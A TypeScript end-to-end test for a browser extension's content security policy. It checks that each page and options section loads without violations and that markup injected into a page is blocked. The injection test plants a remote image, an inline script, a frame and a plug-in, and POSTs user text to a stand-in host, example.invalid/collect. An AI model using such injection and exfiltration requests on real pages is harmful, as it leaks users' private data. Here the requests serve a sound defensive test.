/**
 * The content security policy in a real browser: every page and options section, drawn with a
 * realistic history and a vision board, breaks no rule of the policy; and markup injected into a
 * page cannot reach outside (a remote picture, a request, an inline script, a frame, a plug-in).
 * csp-chromium.e2e.ts and csp-firefox.e2e.ts run it in each browser.
 *
 * A listener attached from inside a loaded page would miss what its loading broke, so each browser
 * listens from the first byte its own way (see `CspHarness`): Chromium through a script Playwright
 * adds before every document; Firefox, which runs no such script in extension pages, by opening
 * the page with `window.open` from another Flourish page and listening on the new window before
 * its document arrives (a same-origin document takes that window over, listener and all).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { today as todayKey } from '../../lib/platform/clock';
import { addDays, isoWeekKey, weekday } from '../../lib/domain/days';
import { SETUP_STEPS } from '../../lib/domain/setup-steps';
import { SECTIONS } from '../../entrypoints/options/router';
import { SETUP_TITLES } from '../../entrypoints/options/setup/step-titles';
import { sampleLeader } from '../support/sample';
import { seedTables, seedVisionBoard } from './db';
import type { Evaluator } from './db';

/** One state of an opened page to wait for: after an optional move to `hash`, until `selector` shows. */
interface Step {
  hash?: string;
  selector: string;
  /** The element's text, when it matters (an h1 that each section replaces). */
  text?: string;
  /** Wait until every chart on the page has drawn. */
  charts?: boolean;
  /** Then click the button with this text (a download through a blob: link). */
  click?: string;
}

/** What an in-page check gets: the page, and whether to open it (Firefox) or it is this one (Chromium). */
export interface CheckArg {
  path: string;
  steps: Step[];
  open: boolean;
}

/** Where Chromium's early listener (`CHROMIUM_LISTENER`) keeps what it heard. */
type Heard = { flourishCspViolations?: SecurityPolicyViolationEvent[] };

/** Added before every document in Chromium: keeps each violation the page reports. */
export function CHROMIUM_LISTENER(): void {
  const heard: SecurityPolicyViolationEvent[] = [];
  (globalThis as Heard).flourishCspViolations = heard;
  addEventListener('securitypolicyviolation', (event) => heard.push(event));
}

/** How each browser opens a page with violations heard from its first byte, and runs a check there. */
export interface CspHarness {
  /** A Flourish page, to seed the data from. */
  home: Evaluator;
  run<R>(check: (arg: CheckArg) => Promise<R>, arg: Omit<CheckArg, 'open'>): Promise<R>;
  close(): Promise<void>;
}

/**
 * Runs in a Flourish page: opens `path` (or takes this page), walks its steps, and returns every
 * violation the policy reported there. Self-contained: it is sent into the browser.
 */
async function violationsIn({ path, steps, open }: CheckArg): Promise<string[]> {
  const events: SecurityPolicyViolationEvent[] = [];
  let child: Window = window;
  if (open) {
    const opened = window.open(path);
    if (!opened) throw new Error(`The browser did not open ${path}.`);
    child = opened;
    child.addEventListener('securitypolicyviolation', (event) => events.push(event));
  }
  const found = () =>
    (open ? events : ((child as Heard).flourishCspViolations ?? [])).map(
      (event) => `${event.effectiveDirective} ${event.blockedURI}`,
    );
  // The opened page's own timers: the opener is a background tab, whose timers a browser slows.
  async function until(test: () => boolean, what: string) {
    for (const deadline = Date.now() + 20_000; !test();) {
      if (Date.now() > deadline) throw new Error(`${path}: no ${what} within 20 s.`);
      await new Promise((wake) => child.setTimeout(wake, 50));
    }
  }
  await until(
    () => child.location.href.endsWith(path) && child.document.readyState === 'complete',
    'loaded page',
  );
  for (const step of steps) {
    if (step.hash) child.location.hash = step.hash;
    const shown = () => {
      const element = child.document.querySelector(step.selector);
      return element !== null && (step.text === undefined || element.textContent === step.text);
    };
    await until(shown, `${step.selector} ${step.text ?? ''}`);
    if (step.charts) {
      await until(() => {
        const charts = child.document.querySelectorAll('canvas').length;
        return charts > 0 && child.performance.getEntriesByName('flourish:chart-drawn').length === charts;
      }, 'charts drawn');
    }
    if (step.click) {
      const button = [...child.document.querySelectorAll('button')].find((b) => b.textContent === step.click);
      if (!button) throw new Error(`${path}: no button ${step.click}.`);
      button.click();
    }
  }
  // Anything the last step started (a picture decoding, a download) reports within a frame or two.
  await new Promise((wake) => child.requestAnimationFrame(() => child.requestAnimationFrame(wake)));
  if (open) child.close();
  return found();
}

/**
 * Runs in a Flourish page: injects what an attacker's markup would, and returns the directives the
 * policy reported and whether the request got out.
 */
async function injectionIn({ path, open }: CheckArg): Promise<{ violations: string[]; fetched: string }> {
  const events: SecurityPolicyViolationEvent[] = [];
  const child = open ? window.open(path)! : window;
  child.addEventListener('securitypolicyviolation', (event) => events.push(event));
  for (const deadline = Date.now() + 20_000; ;) {
    if (child.location.href.endsWith(path) && child.document.readyState === 'complete') break;
    if (Date.now() > deadline) throw new Error(`${path} did not load.`);
    await new Promise((wake) => child.setTimeout(wake, 50));
  }
  const doc = child.document;
  const image = doc.createElement('img');
  image.src = 'https://example.invalid/pixel.png';
  const script = doc.createElement('script');
  script.textContent = 'window.flourishInjected = true';
  const frame = doc.createElement('iframe');
  frame.src = 'https://example.invalid/';
  const plugin = doc.createElement('object');
  plugin.data = 'https://example.invalid/plugin.swf';
  doc.body.append(image, script, frame, plugin);
  const fetched = await child
    .fetch('https://example.invalid/collect', { method: 'POST', body: 'what the leader wrote' })
    .then(
      () => 'sent',
      () => 'refused',
    );
  const directives = () => [...new Set(events.map((event) => event.effectiveDirective))].sort();
  const wanted = ['connect-src', 'frame-src', 'img-src', 'object-src', 'script-src-elem'];
  for (const deadline = Date.now() + 10_000; Date.now() < deadline;) {
    if (wanted.every((directive) => directives().includes(directive))) break;
    await new Promise((wake) => child.setTimeout(wake, 50));
  }
  const ran = (child as unknown as { flourishInjected?: boolean }).flourishInjected === true;
  if (open) child.close();
  return { violations: directives(), fetched: ran ? 'the inline script ran' : fetched };
}

export function describeCsp(name: string, launch: () => Promise<CspHarness>): void {
  let harness: CspHarness;
  const today = todayKey();
  let lastWorkday = addDays(today, -1);
  while (weekday(lastWorkday) === 0 || weekday(lastWorkday) === 6) lastWorkday = addDays(lastWorkday, -1);

  beforeAll(async () => {
    harness = await launch();
    await seedTables(harness.home, { ...sampleLeader(today) });
    await seedVisionBoard(harness.home, ['Calm Mondays', 'The team leading']);
  });

  afterAll(async () => {
    await harness?.close();
  });

  const violations = (path: string, steps: Step[]) => harness.run(violationsIn, { path, steps });

  const h1 = (text: string, hash?: string): Step => ({ hash, selector: 'h1', text });

  describe(`${name}: the content security policy`, () => {
    it('the new tab draws its vision and picture with no violation', async () => {
      const steps = [{ selector: 'main img' }];
      expect(await violations('/newtab.html', steps)).toEqual([]);
    });

    it('the popup draws today’s list with no violation', async () => {
      const steps = [{ selector: 'main h1' }];
      expect(await violations('/popup.html', steps)).toEqual([]);
    });

    it('the daily and weekly review pages draw with no violation', async () => {
      for (const path of [`/review.html?day=${lastWorkday}`, `/review.html?week=${isoWeekKey(lastWorkday)}`])
        expect(await violations(path, [{ selector: 'main h1' }])).toEqual([]);
    });

    it('every options section, charts, pictures and a summary download included, has no violation', async () => {
      const steps: Step[] = SECTIONS.flatMap(({ id, title }) => {
        const shown = h1(title, `#/${id}`);
        if (id === 'vision') return [shown, { selector: '[aria-label="Pictures on your vision board"] img' }];
        if (id === 'insights') return [shown, { selector: 'canvas', charts: true }];
        if (id === 'summary')
          return [shown, { selector: '[aria-label="Summary preview"]', click: 'Download .md' }];
        return [shown];
      });
      const path = '/options.html#/purpose';
      expect(await violations(path, steps)).toEqual([]);
    });

    it('every setup step has no violation', async () => {
      const steps = SETUP_STEPS.map((step) => h1(SETUP_TITLES[step].title, `#/setup/${step}`));
      const path = '/options.html#/setup/welcome';
      expect(await violations(path, steps)).toEqual([]);
    });

    it('refuses a remote picture, a request, an inline script, a frame and a plug-in injected into a page', async () => {
      expect(await harness.run(injectionIn, { path: '/options.html#/vision', steps: [] })).toEqual({
        violations: ['connect-src', 'frame-src', 'img-src', 'object-src', 'script-src-elem'],
        fetched: 'refused',
      });
    });
  });
}
